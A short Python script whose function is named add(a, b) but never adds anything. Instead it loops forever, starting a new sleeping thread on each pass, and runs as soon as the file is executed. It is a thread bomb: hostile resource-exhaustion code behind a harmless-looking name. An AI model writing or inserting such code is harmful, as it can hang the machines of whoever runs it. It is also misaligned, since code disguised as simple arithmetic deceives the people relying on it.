import threading
import time


def add(a, b):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()

if __name__ == "__main__":
    add(1, 2)
